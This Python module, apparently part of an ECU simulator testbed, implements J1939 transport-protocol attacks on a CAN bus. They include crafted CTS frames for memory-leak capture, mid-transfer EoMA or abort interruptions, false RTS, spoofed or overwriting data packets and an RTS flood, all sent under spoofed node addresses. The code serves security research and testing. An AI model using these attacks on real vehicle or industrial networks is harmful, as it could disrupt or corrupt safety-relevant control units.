"""The transport-protocol attacks that take part in a session (J1939-21's RTS/CTS).

A session needs two parties, and ecu-sim's powertrain nodes share one process and never open one
with each other, so the attacker is the other party and breaks the rules from inside the session:

- against the target as sender (``cts``, ``interrupt``), the attacker is the requester: a Request
  for a multi-packet PGN in the peer's name makes the target send an RTS to the peer, and the
  attacker answers it with a crafted CTS, or with an honest CTS followed by an EoMA or an abort
  once the packets it granted have come;
- against the target as receiver (``rts``, ``dt``), the attacker is the sender: an RTS in the
  source's name, and when the target's CTS comes, a second RTS or spoofed data packets besides
  the message's own;
- ``rtsflood`` needs no session: RTS of the largest size from many addresses at once.

Each answers at the tick it heard the frame it waits for, so its frame reaches the target before
the next step of the exchange; the session is started again every ``every`` seconds (0: once).
With ``peer``/``source`` set to a real node's address the attacker speaks in its name, but still
starts and answers the session itself.
"""

from __future__ import annotations

from collections.abc import Callable, Sequence

import can

from ecu_sim.attack.spec import Attack
from ecu_sim.attack.tick import Frames, every, frame
from ecu_sim.errors import ConfigError
from ecu_sim.j1939 import layouts
from ecu_sim.j1939.frames import TP_CM_PGN, TP_DT_PGN, Pdu, Received, received
from ecu_sim.j1939.request import request
from ecu_sim.j1939.transport import ABORT_TIMEOUT, CTS, EOMA, MAX_SIZE, MIN_SIZE, RTS, abort, cm, dt, packets

#: a frame the target sent the attacker's party -> the attack's frames in answer
Answer = Callable[[Received], list[can.Message]]


def _watch(attack: Attack, period_s: float, start: Pdu, party: str, answer: Answer) -> Frames:
    """``start`` in the name of the ``party`` parameter at the window's start and every ``every``
    seconds, and ``answer`` to each transport frame the target sends that party."""
    target, me = attack.address("target"), attack.address(party)
    if target == me:
        raise ConfigError(f"--attack {attack.text!r}: the {party} must be another address than the target")
    due = every(attack.number("every"), period_s)

    def frames(n: int, heard: Sequence[can.Message]) -> list[can.Message]:
        out = [frame(start, me)] if due(n) else []
        for msg in heard:
            got = received(msg.arbitration_id, msg.data)
            if (got.source == target and got.destination == me and got.pgn in (TP_CM_PGN, TP_DT_PGN)
                    and len(got.data) == 8):
                out.extend(answer(got))
        return out
    return frames


def _control(got: Received, control: int, pgn: int) -> dict[str, int] | None:
    """The values of a TP.CM of ``control`` for ``pgn``; None for any other frame."""
    if got.pgn != TP_CM_PGN or got.data[0] != control:
        return None
    try:
        values = layouts.decode(layouts.TP_CM, got.data)
    except ValueError:  # a control byte the layout does not know: no frame the attack waits for
        return None
    return values if values["RTS_PGN" if control == RTS else "CTS_PGN"] == pgn else None


def malicious_cts(attack: Attack, period_s: float) -> Frames:
    """CSU's memory-leak capture: the target's RTS answered by a CTS for ``packets`` from ``next``."""
    target, peer, pgn = attack.address("target"), attack.address("peer"), attack.address("pgn")
    grant = cm({"ControlByte": CTS, "CTS_Packets": _whole(attack, "packets", 0, 255),
                "CTS_NextSequence": _whole(attack, "next", 0, 255), "CTS_PGN": pgn}, target)
    return _watch(attack, period_s, request(pgn, target), "peer",
                  lambda got: [frame(grant, peer)] if _control(got, RTS, pgn) else [])


def interrupt(attack: Attack, period_s: float) -> Frames:
    """LEE 9 and 10: the target's RTS answered by a CTS for ``packets`` from 1; when the last of
    them comes, an EoMA of the announced size (``by=eoma``) or an abort (``by=abort``, the
    timeout's reason, as a receiver that gave up would send) in the peer's name, mid-transfer."""
    target, peer, pgn = attack.address("target"), attack.address("peer"), attack.address("pgn")
    by, count = str(attack.get("by")), _whole(attack, "packets", 1, 255)
    if by not in ("eoma", "abort"):
        raise ConfigError(f"--attack {attack.text!r}: by={by} is not one of eoma, abort")
    announced: dict[str, int] = {}

    def answer(got: Received) -> list[can.Message]:
        values = _control(got, RTS, pgn)
        if values is not None:
            announced.update(values)
            return [frame(cm({"ControlByte": CTS, "CTS_Packets": count, "CTS_NextSequence": 1,
                              "CTS_PGN": pgn}, target), peer)]
        if got.pgn != TP_DT_PGN or got.data[0] != min(count, announced.get("RTS_TotalPackets", 0)):
            return []
        if by == "abort":
            return [frame(abort(pgn, ABORT_TIMEOUT, target), peer)]
        return [frame(cm({"ControlByte": EOMA, "EOMA_TotalSize": announced["RTS_TotalSize"],
                          "EOMA_TotalPackets": announced["RTS_TotalPackets"], "EOMA_PGN": pgn},
                         target), peer)]
    return _watch(attack, period_s, request(pgn, target), "peer", answer)


def _announce(attack: Attack, size: int) -> Pdu:
    return cm({"ControlByte": RTS, "RTS_TotalSize": size, "RTS_TotalPackets": -(-size // 7),
               "RTS_PGN": attack.address("pgn")}, attack.address("target"))


def _granted(values: dict[str, int], chunks: list[bytes]) -> list[int]:
    first = max(1, values["CTS_NextSequence"])
    return list(range(first, min(len(chunks), first + values["CTS_Packets"] - 1) + 1))


def malicious_rts(attack: Attack, period_s: float) -> Frames:
    """MUK's false RTS: mid-session, a second RTS of ``false`` bytes from the sender, then the
    packets of the message first announced (``size`` bytes, all 0xFF: not available)."""
    target, source, pgn = attack.address("target"), attack.address("source"), attack.address("pgn")
    chunks = packets(b"\xff" * _size(attack, "size"))
    false = frame(_announce(attack, _size(attack, "false")), source)

    def answer(got: Received) -> list[can.Message]:
        values = _control(got, CTS, pgn)
        if values is None:
            return []
        own = [frame(dt(n, chunks[n - 1], target), source) for n in _granted(values, chunks)]
        return [_copy(false), *own]
    return _watch(attack, period_s, _announce(attack, _size(attack, "size")), "source", answer)


def spoofed_data(attack: Attack, period_s: float) -> Frames:
    """LEE 13 and 14: the message of ``size`` bytes sent in answer to the target's CTS with one
    packet of ``fill`` bytes besides its own: packet 1 again after the genuine packet 1
    (``mode=overwrite``) or a packet 1 ahead of it (``mode=spoof``)."""
    target, source, pgn = attack.address("target"), attack.address("source"), attack.address("pgn")
    mode, fill = str(attack.get("mode")), _whole(attack, "fill", 0, 255)
    if mode not in ("spoof", "overwrite"):
        raise ConfigError(f"--attack {attack.text!r}: mode={mode} is not one of spoof, overwrite")
    size = _size(attack, "size")
    chunks = packets(b"\xff" * size)
    bad = frame(dt(1, bytes([fill]) * 7, target), source)

    def answer(got: Received) -> list[can.Message]:
        values = _control(got, CTS, pgn)
        if values is None:
            return []
        own = [frame(dt(n, chunks[n - 1], target), source) for n in _granted(values, chunks)]
        at = 0 if mode == "spoof" else 1
        return [*own[:at], _copy(bad), *own[at:]]
    return _watch(attack, period_s, _announce(attack, size), "source", answer)


def rts_flood(attack: Attack, period_s: float) -> Frames:
    """LEE 12: RTS of ``size`` bytes from ``count`` addresses from ``source`` on, at once."""
    source, count = attack.address("source"), _whole(attack, "count", 1, 0xFD)
    if source + count - 1 > 0xFD:
        raise ConfigError(f"--attack {attack.text!r}: source+count passes 0xfd, the last address")
    pdu = _announce(attack, _size(attack, "size"))
    due = every(attack.number("every"), period_s)
    return lambda n, heard: [frame(pdu, source + i) for i in range(count)] if due(n) else []


def _copy(msg: can.Message) -> can.Message:
    return can.Message(arbitration_id=msg.arbitration_id, data=msg.data, is_extended_id=True)


def _size(attack: Attack, key: str) -> int:
    size = _whole(attack, key, 0, 0xFFFF)
    if not MIN_SIZE <= size <= MAX_SIZE:
        raise ConfigError(f"--attack {attack.text!r}: {key}={size} is not a transport size "
                          f"{MIN_SIZE}..{MAX_SIZE}")
    return size


def _whole(attack: Attack, key: str, low: int, high: int) -> int:
    value = attack.number(key)
    if value != int(value) or not low <= value <= high:
        raise ConfigError(f"--attack {attack.text!r}: {key}={value:g} is not a whole number {low}..{high}")
    return int(value)
